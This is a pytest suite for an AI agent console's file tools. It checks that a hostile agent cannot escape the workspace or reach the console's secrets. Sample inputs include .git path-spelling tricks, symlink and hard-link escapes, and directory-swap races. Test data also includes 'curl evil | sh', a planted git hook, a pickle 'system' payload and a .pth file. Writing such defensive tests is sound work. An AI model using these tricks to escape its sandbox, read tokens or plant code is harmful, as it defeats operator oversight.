"""Promises 2 and 3 against a hostile agent: the file tools reach nothing outside the
workspace (links, races, `.git` in any spelling, executables) and none of the console's own
files, under the zero-config defaults where the workspace is the directory holding `.env`.

Everything goes through the real pipeline (`Engine.run`, the `daena` CLI) on real files,
real symlinks and hard links, and real threads racing the tools.
"""

from __future__ import annotations

import json
import os
import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import pytest

import engine
from daena_tui.cli import main
from engine import ConfinementError, Engine, InputError, NotFoundError, Settings, load_settings
from engine.safety.nofollow import open_directory
from engine.safety.paths import confine, is_git_name, resolve_in_workspace
from engine.safety.protected import ProtectedPaths, program_directories, protected_for_settings
from engine.safety.textfiles import confined_read, confined_write, precheck_write
from tests.conftest import make_repo, make_settings
from tests.support.races import INSIDE, race_rounds, swapping, unchanged

SECRET = "tok-SECRET-7f3a9c"  # the API token in `.env`
OUTSIDE = "OUTSIDE-SECRET-CONTENT"


async def enable_writes(eng: Engine) -> Engine:
    await eng.update_config({"tool_enabled": {"filesystem_write": True}, "approval_mode": "auto"})
    return eng


@pytest.fixture
async def writer(eng: Engine) -> Engine:
    return await enable_writes(eng)


@pytest.fixture
def outside(workspace: Path) -> Path:
    """A directory beside the workspace holding a secret."""
    out = workspace.parent / "outside"
    out.mkdir()
    (out / "f.txt").write_text(OUTSIDE)
    return out


# -- .git, in any case, at any depth, for every writer ---------------------------------------

GIT_WRITES = [
    ".git/hooks/pre-commit",
    ".GIT/hooks/pre-commit",
    ".Git/config",
    "sub/.git/hooks/pre-commit",
    "sub/.git",
    "sub/.GIT",
    "deep/er/.git/config",
    ".git./config",
    ".git /config",
    "GIT~1/config",
    ".g\u200cit/config",
    "x/../.git/config",
    "./.git/info/attributes",
]


@pytest.mark.parametrize("raw", GIT_WRITES)
def test_git_names_are_refused_for_writers(workspace: Path, raw: str) -> None:
    with pytest.raises(ConfinementError, match=r"\.git"):
        resolve_in_workspace(workspace, raw, allow_git_dir=False)
    assert resolve_in_workspace(workspace, ".git/config").name == "config"  # reads may


def test_git_name_rule_keeps_ordinary_names() -> None:
    for name in (".gitignore", ".gitattributes", "git", "my.git.txt", ".github", "a.git"):
        assert not is_git_name(name), name


@pytest.mark.parametrize("raw", GIT_WRITES)
async def test_filesystem_write_into_any_git_is_refused(
    writer: Engine, workspace: Path, raw: str
) -> None:
    (workspace / "sub").mkdir(exist_ok=True)
    before = sorted(p.relative_to(workspace) for p in workspace.rglob("*"))
    for dry_run in (True, False):
        result = await writer.run(
            "filesystem_write",
            {"path": raw, "content": "#!/bin/sh\nid\n", "create_dirs": True},
            dry_run=dry_run,
        )
        assert result.status == "refused", result
        assert result.error and result.error.startswith("path:") and ".git" in result.error
    assert sorted(p.relative_to(workspace) for p in workspace.rglob("*")) == before


async def test_an_existing_git_file_is_not_rewritten(writer: Engine, workspace: Path) -> None:
    """A `.git` file redirects git to another directory (submodules): never writable."""
    (workspace / "vendor").mkdir()
    (workspace / "vendor" / ".git").write_text("gitdir: ../.git/modules/vendor\n")
    for raw in ("vendor/.git", "vendor/.GIT", "./vendor//.git"):
        result = await writer.run("filesystem_write", {"path": raw, "content": "gitdir: /tmp\n"})
        assert result.status == "refused", (raw, result)
    assert (workspace / "vendor" / ".git").read_text() == "gitdir: ../.git/modules/vendor\n"


async def test_link_into_git_is_refused_for_writes(writer: Engine, workspace: Path) -> None:
    os.symlink(".git", workspace / "innocent")
    os.symlink(".git/hooks/pre-commit", workspace / "notes.txt")
    for raw in ("innocent/hooks/pre-commit", "notes.txt"):
        result = await writer.run("filesystem_write", {"path": raw, "content": "id\n"})
        assert result.status == "refused" and ".git" in (result.error or "")
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


# -- nothing executable ------------------------------------------------------------------------


async def test_new_files_are_never_executable(writer: Engine, workspace: Path) -> None:
    old = os.umask(0)
    try:
        result = await writer.run(
            "filesystem_write",
            {"path": "bin/run.sh", "content": "#!/bin/sh\necho hi\n", "create_dirs": True},
        )
    finally:
        os.umask(old)
    assert result.status == "ok", result
    assert stat.S_IMODE((workspace / "bin" / "run.sh").stat().st_mode) == 0o644


async def test_rewriting_an_executable_is_refused(writer: Engine, workspace: Path) -> None:
    script = workspace / "build.sh"
    script.write_text("echo build\n")
    script.chmod(0o755)
    for dry_run in (True, False):
        result = await writer.run(
            "filesystem_write",
            {"path": "build.sh", "content": "curl evil | sh\n"},
            dry_run=dry_run,
        )
        assert result.status == "refused", result
        assert result.error and "executable" in result.error and result.error.startswith("path:")
    assert script.read_text() == "echo build\n"


async def test_rewrite_keeps_a_private_mode(writer: Engine, workspace: Path) -> None:
    notes = workspace / "private.txt"
    notes.write_text("old\n")
    notes.chmod(0o600)
    result = await writer.run("filesystem_write", {"path": "private.txt", "content": "new\n"})
    assert result.status == "ok"
    assert stat.S_IMODE(notes.stat().st_mode) == 0o600 and notes.read_text() == "new\n"


def test_exec_bit_set_after_the_tool_check_is_seen_on_the_opened_file(workspace: Path) -> None:
    target = workspace / "a.txt"
    target.write_text("a\n")
    confine(workspace, "a.txt", allow_git_dir=False)  # the tool's check passes...
    target.chmod(0o755)  # ... then the file becomes a program: the write looks again
    with pytest.raises(InputError, match="executable"):
        confined_write(workspace, "a.txt", "b\n")
    assert target.read_text() == "a\n"


# -- links inside the workspace ------------------------------------------------------------------


async def test_write_through_a_hard_link_leaves_the_other_name_alone(
    writer: Engine, workspace: Path, outside: Path
) -> None:
    """A hard link to an outside file: the write renames a new file over the name, so the
    outside file keeps its content (nothing outside is written)."""
    os.link(outside / "f.txt", workspace / "alias.txt")
    result = await writer.run("filesystem_write", {"path": "alias.txt", "content": "mine\n"})
    assert result.status == "ok"
    assert (outside / "f.txt").read_text() == OUTSIDE
    assert (workspace / "alias.txt").read_text() == "mine\n"


async def test_symlinks_inside_keep_working(writer: Engine, workspace: Path) -> None:
    os.symlink("src", workspace / "code")
    read = await writer.run("filesystem_read", {"path": "code/app.py"})
    assert read.result == {"path": "src/app.py", "content": "print('hi')\n", "size": 12}
    wrote = await writer.run("filesystem_write", {"path": "code/app.py", "content": "x = 1\n"})
    assert wrote.status == "ok" and (workspace / "src" / "app.py").read_text() == "x = 1\n"
    assert (workspace / "code").is_symlink()


async def test_fifo_is_refused_without_hanging(eng: Engine, workspace: Path) -> None:
    os.mkfifo(workspace / "pipe")
    result = await eng.run("filesystem_read", {"path": "pipe"})
    assert result.status == "error" and "not a regular file" in (result.error or "")


# -- check-then-use: the swap after the check is caught, deterministically ----------------------


def test_directory_swapped_after_the_check_is_not_followed(workspace: Path, outside: Path) -> None:
    (workspace / "d").mkdir()
    (workspace / "d" / "f.txt").write_text("inside\n")
    target = confine(workspace, "d/f.txt")  # the check passes on the real directory
    os.rename(workspace / "d", workspace / "d.real")
    os.symlink(outside, workspace / "d")  # ... then the agent swaps it for a link out
    with (
        pytest.raises(ConfinementError, match="became a link"),
        open_directory(target.root, target.parts[:-1], field="path", raw="d/f.txt"),
    ):
        pass


def test_file_swapped_for_a_link_after_the_check_is_not_followed(
    workspace: Path, outside: Path
) -> None:
    (workspace / "f.txt").write_text("inside\n")
    target = confine(workspace, "f.txt")
    os.unlink(workspace / "f.txt")
    os.symlink(outside / "f.txt", workspace / "f.txt")
    with (
        open_directory(target.root, (), field="path", raw="f.txt") as parent,
        pytest.raises(OSError),
    ):
        parent.open("f.txt", os.O_RDONLY)


# -- the same race, live: a thread swapping a directory for a link out ---------------------------


def test_race_reads_never_see_outside(workspace: Path, outside: Path) -> None:
    seen: set[str] = set()
    with swapping(workspace, outside):
        for _ in race_rounds():
            for _ in range(10):
                try:
                    seen.add(confined_read(workspace, "d/f.txt").content)
                except (ConfinementError, NotFoundError) as err:
                    assert OUTSIDE not in err.message
    assert seen <= {INSIDE}


def test_race_writes_never_land_outside(workspace: Path, outside: Path) -> None:
    with swapping(workspace, outside):
        for i in race_rounds():
            for j in range(5):
                try:
                    confined_write(workspace, f"d/w{i}-{j}.txt", "planted\n")
                    confined_write(workspace, "d/f.txt", "rewritten\n")
                except (ConfinementError, NotFoundError):
                    pass
    assert unchanged(outside, {"f.txt": OUTSIDE})


async def test_race_through_the_engine(writer: Engine, workspace: Path, outside: Path) -> None:
    with swapping(workspace, outside):
        for i in race_rounds():
            read = await writer.run("filesystem_read", {"path": "d/f.txt"})
            assert OUTSIDE not in read.model_dump_json()
            assert read.status in ("ok", "refused", "error")
            wrote = await writer.run("filesystem_write", {"path": f"d/n{i}.txt", "content": "x"})
            assert wrote.status in ("ok", "refused", "error")
    assert unchanged(outside, {"f.txt": OUTSIDE})


# -- promise 3 under the zero-config defaults ----------------------------------------------------


@dataclass(frozen=True)
class ZeroConfig:
    workspace: Path  # also the current directory, where `.env` is read
    settings: Settings

    @property
    def db(self) -> Path:
        return self.settings.daena_db_path


@pytest.fixture
def zero_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ZeroConfig:
    """workspace = cwd holding `.env` (with the API token), the settings file and the
    database, as a first `daena` run in a project directory would have it."""
    ws = tmp_path / "project"
    make_repo(ws)
    for name in (
        "EXECUTION_WORKSPACE_ROOT",
        "EXECUTION_TOKEN",
        "DAENA_DB_PATH",
        "DAENA_CONFIG_FILE",
        "WINDOWS_NODE_TOKEN",
        "DAENA_OPERATOR",
    ):
        monkeypatch.delenv(name, raising=False)
    (ws / "daena.toml").write_text(f'# token {SECRET}\nDAENA_OPERATOR = "op@test"\n')
    (ws / ".env").write_text(
        f"EXECUTION_TOKEN={SECRET}\nDAENA_DB_PATH={ws / 'daena.db'}\n"
        f"DAENA_CONFIG_FILE={ws / 'daena.toml'}\n"
    )
    (ws / ".ENV").write_text(f"EXECUTION_TOKEN={SECRET}\n")  # a case variant (Windows/macOS)
    os.symlink(".env", ws / "link")
    os.link(ws / ".env", ws / "hard")
    (ws / "sub").mkdir()
    monkeypatch.chdir(ws)
    settings = load_settings()
    assert settings.execution_workspace_root == ws and settings.daena_db_path == ws / "daena.db"
    return ZeroConfig(ws, settings)


PROTECTED_READS = [
    ".env",
    "./.env",
    "sub/../.env",
    ".ENV",
    "link",
    "hard",
    "daena.db",
    "daena.db-wal",
    "daena.db-shm",
    "DAENA.DB-WAL",
    "daena.db-journal",
    "daena.db.audit-key",
    "daena.toml",
    ".env.",
    ".env::$DATA",
]


@pytest.fixture
async def zero_eng(zero_config: ZeroConfig) -> AsyncIterator[Engine]:
    async with Engine.open(zero_config.settings) as engine:
        yield await enable_writes(engine)


def token_nowhere(zero: ZeroConfig) -> None:
    """The token appears in no database file (the audit included), only in the files the
    test wrote."""
    for name in ("daena.db", "daena.db-wal"):
        path = zero.workspace / name
        if path.exists():
            assert SECRET.encode() not in path.read_bytes(), name


async def test_protected_files_are_refused_through_the_engine(
    zero_eng: Engine, zero_config: ZeroConfig
) -> None:
    ws = zero_config.workspace
    before = {p: p.read_bytes() for p in (ws / ".env", ws / ".ENV", ws / "daena.toml")}
    for raw in PROTECTED_READS:
        read = await zero_eng.run("filesystem_read", {"path": raw})
        assert read.status == "refused", (raw, read)
        assert read.error and read.error.startswith("path:") and "console's own" in read.error
        assert SECRET not in read.model_dump_json()
        for dry_run in (True, False):
            wrote = await zero_eng.run(
                "filesystem_write",
                {"path": raw, "content": "EXECUTION_TOKEN=mine\n"},
                dry_run=dry_run,
            )
            assert wrote.status == "refused", (raw, dry_run, wrote)
    assert {p: p.read_bytes() for p in before} == before
    record = await zero_eng.audit.get(await zero_eng.audit.last_id())
    assert record is not None and record.status == "refused"
    token_nowhere(zero_config)


async def test_protected_by_identity_after_the_name_check(
    zero_eng: Engine, zero_config: ZeroConfig
) -> None:
    """A hard link made after the engine built its protected set is still `.env`."""
    os.link(zero_config.workspace / ".env", zero_config.workspace / "later.txt")
    read = await zero_eng.run("filesystem_read", {"path": "later.txt"})
    assert read.status == "refused" and SECRET not in read.model_dump_json()
    ws = zero_config.workspace
    with pytest.raises(ConfinementError, match="console's own"):
        confined_read(ws, "later.txt", protected=protected_for_settings(zero_config.settings))


async def test_ordinary_files_of_the_zero_config_workspace_still_work(zero_eng: Engine) -> None:
    read = await zero_eng.run("filesystem_read", {"path": "README.md"})
    assert read.status == "ok" and read.result and read.result["content"] == "hello\n"
    wrote = await zero_eng.run("filesystem_write", {"path": "sub/.env.example", "content": "A=1"})
    assert wrote.status == "ok"


def cli(*argv: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = main(["--json", *argv])
    out, err = capsys.readouterr()
    return code, out + err


def test_protected_files_are_refused_through_the_cli(
    zero_config: ZeroConfig, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli("tools", "enable", "filesystem_write", capsys=capsys)[0] == 0
    assert cli("config", "set", "approval_mode", "auto", capsys=capsys)[0] == 0
    for raw in PROTECTED_READS:
        code, out = cli("run", "filesystem_read", "--arg", f"path={raw}", capsys=capsys)
        assert code == 3, (raw, out)
        assert SECRET not in out and "console's own" in json.loads(out)["error"]
        code, out = cli(
            "run",
            "filesystem_write",
            "--arg",
            f"path={raw}",
            "--arg",
            "content=x",
            capsys=capsys,
        )
        assert code == 3, (raw, out)
    code, out = cli("logs", "--limit", "1000", capsys=capsys)
    assert code == 0 and SECRET not in out and ".env" in out
    assert (zero_config.workspace / ".env").read_text().startswith(f"EXECUTION_TOKEN={SECRET}")
    token_nowhere(zero_config)


# -- the console's program, Python environment and loaded models ---------------------------------


def test_the_consoles_program_and_environment_are_not_writable(workspace: Path) -> None:
    """A `.pth` file in site-packages or a changed engine module runs at the next start."""
    protected = protected_for_settings(make_settings(workspace, workspace / "db.sqlite"))
    site_file = Path(engine.__file__).resolve().parent / "safety" / "paths.py"
    assert protected.covers(site_file, writing=True) and not protected.covers(site_file)
    for directory in program_directories():
        assert protected.covers(directory / "evil.pth", writing=True)
    venv = workspace / "venv"
    (venv / "lib").mkdir(parents=True)
    own = ProtectedPaths.of([], code=[venv])
    with pytest.raises(ConfinementError, match="console's own"):
        confined_write(workspace, "venv/lib/x.pth", "import os\n", protected=own)
    with pytest.raises(ConfinementError, match="console's own"):
        precheck_write(workspace, "VENV/../venv/lib/x.pth", protected=own)
    assert not (venv / "lib" / "x.pth").exists()
    (venv / "lib" / "ok.txt").write_text("readable\n")
    assert confined_read(workspace, "venv/lib/ok.txt", protected=own).content == "readable\n"


async def test_models_inside_the_workspace_are_out_of_reach(workspace: Path, db_path: Path) -> None:
    """Model files are pickles: writing one is running code when the voice loads it."""
    (workspace / "models" / "xtts").mkdir(parents=True)
    (workspace / "models" / "xtts" / "config.json").write_text("{}\n")
    settings = make_settings(workspace, db_path, MODELS_ROOT=str(workspace / "models"))
    async with Engine.open(settings) as eng:
        await enable_writes(eng)
        read = await eng.run("filesystem_read", {"path": "models/xtts/config.json"})
        wrote = await eng.run(
            "filesystem_write", {"path": "models/xtts/model.pth", "content": "cos\nsystem\n"}
        )
    assert read.status == "refused" and wrote.status == "refused"
    assert not (workspace / "models" / "xtts" / "model.pth").exists()
